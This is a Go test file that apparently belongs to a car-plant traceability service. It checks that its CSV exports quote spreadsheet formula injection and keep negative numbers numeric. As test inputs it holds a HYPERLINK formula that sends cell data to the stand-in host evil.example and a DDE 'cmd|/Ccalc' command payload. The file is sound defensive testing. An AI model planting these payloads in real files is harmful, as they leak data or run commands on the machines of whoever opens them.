package traceweb_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	neturl "net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/keiline/keiline/pipeline/event"
	"github.com/keiline/keiline/schema"
	"github.com/keiline/keiline/schema/pgtest"
	"github.com/keiline/keiline/schema/tracetest"
	"github.com/keiline/keiline/traceweb"
)

// evil is text from outside keiline that a spreadsheet would run.
const evil = `=HYPERLINK("http://evil.example/?x="&A1,"open")`

var plainNumber = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$`)

// checkSafe parses a CSV export and fails on any cell a spreadsheet would
// evaluate; it wants the hostile text kept, quoted, and the negative
// number kept as a number when neg is not "".
func checkSafe(t *testing.T, out []byte, neg string) []string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var cells []string
	for _, r := range rows[1:] {
		cells = append(cells, r...)
	}
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) || strings.HasPrefix(c, "-") && !plainNumber.MatchString(c) {
			t.Errorf("cell %q would run as a formula", c)
		}
	}
	if !slices.Contains(cells, "'"+evil) {
		t.Errorf("the hostile text is not kept quoted: %q", cells)
	}
	if neg != "" && !slices.Contains(cells, neg) {
		t.Errorf("the negative measurement %s is not kept as a number: %q", neg, cells)
	}
	return cells
}

func fptr(v float64) *float64 { return &v }
func bptr(v bool) *bool       { return &v }

// TestCSVExportsAreSafeFromFormulas: every CSV export (the trace API's
// format=csv and keiline trace --csv write these) quotes text a
// spreadsheet would evaluate and keeps negative numbers as numbers.
func TestCSVExportsAreSafeFromFormulas(t *testing.T) {
	now := time.Now()
	closed := now.Add(time.Minute)
	car := schema.CarStatus{VIN: evil, Where: evil, LastStation: evil}
	t.Run("birth record", func(t *testing.T) {
		b := schema.BirthRecord{CarStatus: car,
			Visits: []schema.BirthVisit{{EventID: evil, Station: evil, Result: evil, FinishedAt: now,
				Parts:  []event.Part{{PartNumber: evil, Serial: "+" + evil, Lot: "@" + evil, Supplier: "\t" + evil}},
				Joints: []event.Joint{{Joint: evil, Tool: evil, TorqueNm: fptr(-12.5), AngleDeg: fptr(-3), OK: bptr(false)}},
				Tests:  []event.Test{{Name: evil, Value: fptr(-0.25), Unit: evil, Low: fptr(-1), High: fptr(1), OK: bptr(true)}},
				Bad:    []event.BadValue{{Tag: evil, NodeID: evil, Reason: evil}}}},
			Defects: []schema.Defect{{Station: evil, EventID: evil, At: now, Kind: evil, Name: evil, Detail: evil}},
			Holds:   []schema.BirthHold{{Station: evil, Kind: evil, Reason: evil, OpenedEventID: evil, OpenedAt: now, ClosedEventID: evil, ClosedAt: &closed}},
			Gate:    []schema.GateDecision{{EventID: evil, Station: evil, Reason: evil, DecidedAt: now}},
		}
		var out bytes.Buffer
		if err := traceweb.WriteBirthCSV(&out, b); err != nil {
			t.Fatal(err)
		}
		cells := checkSafe(t, out.Bytes(), "-12.5")
		for _, s := range []string{"'+" + evil, "'@" + evil, "'\t" + evil} {
			if !slices.Contains(cells, s) {
				t.Errorf("%q not quoted", s)
			}
		}
	})
	t.Run("parts and lots", func(t *testing.T) {
		a := &schema.PartAnswer{Uses: []schema.PartUse{{VIN: evil, Station: evil, PartNumber: evil, Serial: evil, Lot: evil, Supplier: evil, InstalledAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WritePartsCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "")
	})
	t.Run("joints of a tool", func(t *testing.T) {
		a := &schema.WindowAnswer{Joints: []schema.JointRow{{VIN: evil, Station: evil, Joint: evil, Tool: evil, TorqueNm: fptr(-40), AngleDeg: fptr(-1e-06), MadeAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "-1e-06")
	})
	t.Run("tests of a station", func(t *testing.T) {
		a := &schema.WindowAnswer{Tests: []schema.TestRow{{VIN: evil, Station: evil, Name: evil, Value: fptr(-7.5), Unit: evil, TestedAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "-7.5")
	})
	t.Run("visits of a station", func(t *testing.T) {
		a := &schema.WindowAnswer{Visits: []schema.VisitRow{{VIN: evil, Station: evil, Result: evil, FinishedAt: now, EventID: evil}},
			Cars: []schema.CarStatus{car}}
		var out bytes.Buffer
		if err := traceweb.WriteWindowCSV(&out, a); err != nil {
			t.Fatal(err)
		}
		checkSafe(t, out.Bytes(), "")
	})
}

// TestCSVExportOverHTTPIsSafe: a hostile part serial recorded from the
// line comes out of the trace API's CSV quoted.
func TestCSVExportOverHTTPIsSafe(t *testing.T) {
	url := pgtest.NewDB(t)
	owner, err := schema.Open(t.Context(), url)
	if err != nil {
		t.Fatal(err)
	}
	defer owner.Close()
	at := time.Now().Add(-time.Hour).UTC()
	const serial = "=2+5+cmd|'/Ccalc'!A0" // the API splits serials at commas and blanks: none in it
	c := &event.Cycle{Counter: 1, Result: "OK", Model: "KV", StartedAt: at.Add(-time.Minute),
		Parts: []event.Part{{PartNumber: evil, Serial: serial, Lot: "@" + evil, Supplier: "-" + evil}}}
	ev, err := event.NewEvent("US1", "L1", "W01", event.KindCycle, tracetest.VINs[0], 0, 1, at, at, c)
	if err != nil {
		t.Fatal(err)
	}
	tracetest.RecordEvents(t, owner, &tracetest.Line, ev)
	store, err := schema.OpenAs(t.Context(), url, schema.RoleAuditor)
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	srv := httptest.NewServer(traceweb.Handler(store, traceweb.Config{Plant: "US1 L1", Logger: slog.New(slog.DiscardHandler)}))
	defer srv.Close()
	resp, err := srv.Client().Get(srv.URL + "/api/part?format=csv&serial=" + neturl.QueryEscape(serial))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("%d %v: %s", resp.StatusCode, err, b)
	}
	cells := checkSafe(t, b, "")
	for _, s := range []string{"'" + serial, "'@" + evil, "'-" + evil} {
		if !slices.Contains(cells, s) {
			t.Errorf("%q not quoted: %q", s, cells)
		}
	}
}
